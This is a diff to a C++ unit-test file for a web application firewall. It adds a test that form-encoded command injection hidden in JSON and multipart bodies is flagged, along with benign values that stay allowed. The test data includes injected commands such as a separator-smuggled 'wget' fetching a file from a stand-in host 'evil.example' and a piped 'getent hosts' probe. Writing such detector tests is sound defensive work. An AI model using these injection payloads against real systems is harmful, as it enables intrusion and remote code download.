@@ -1,8 +1,8 @@
 // Attack classes the value pipeline (transaction.cc) used to hide from the detectors: SQL
 // made of words alone (catalog and procedure names, '--' comments, words glued by '+'), a URL
 // carried in the path, SQL cut by the form parser at an '=' of its own, control characters
-// that made a short text pass for binary; and the ordinary values of the same shapes that
-// must stay allowed.
+// that made a short text pass for binary, commands form-encoded inside JSON or multipart
+// values; and the ordinary values of the same shapes that must stay allowed.
 #include <gtest/gtest.h>
 
 #include <string>
@@ -70,6 +70,27 @@ TEST(WafGaps, ControlCharactersDoNotMakeTextBinary) {
                      "Content-Type: application/octet-stream\r\n\r\n") +
              std::string("\x01\x02\x03\x04#{\x05<?=\x06\x07\x08\x09\x0b", 16) + "\r\n--XyZ--\r\n");
   EXPECT_EQ(verdict_of(m), "allow");
+}
+
+// A command form-encoded inside a JSON or multipart value: the back end that URL-decodes it
+// reads '+' as a blank ("|getent hosts x"); ordinary encoded text stays allowed.
+TEST(WafGaps, FormEncodedCommandsInsideOtherBodies) {
+  Request j;
+  j.post("application/json", R"({"t":"%7Cgetent+hosts+somehost.example.&"})");
+  EXPECT_EQ(verdict_of(j), "cmdi");
+  Request ju;
+  ju.post("application/json", R"({"t":"\u0025\u0037\u0043getent+hosts+x.example"})");
+  EXPECT_EQ(verdict_of(ju), "cmdi");
+  Request m;
+  m.post("multipart/form-data; boundary=XyZ",
+         "--XyZ\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n%3Bwget+http%3A%2F%2Fevil.example%2Fx+-O+/tmp/x\r\n--XyZ--\r\n");
+  EXPECT_EQ(verdict_of(m), "cmdi");
+  for (const char* body : {R"({"q":"caf%C3%A9+cr%C3%A8me"})", R"({"b":"abc%2Bdef%2Bghi%3D%3D"})",
+                           R"({"m":"1%2B1+equals+2"})", R"({"s":"rock%26roll+forever"})"}) {
+    Request ok;
+    ok.post("application/json", body);
+    EXPECT_EQ(verdict_of(ok), "allow") << body;
+  }
 }
 
 TEST(WafGaps, OrdinaryValuesOfTheSameShapes) {
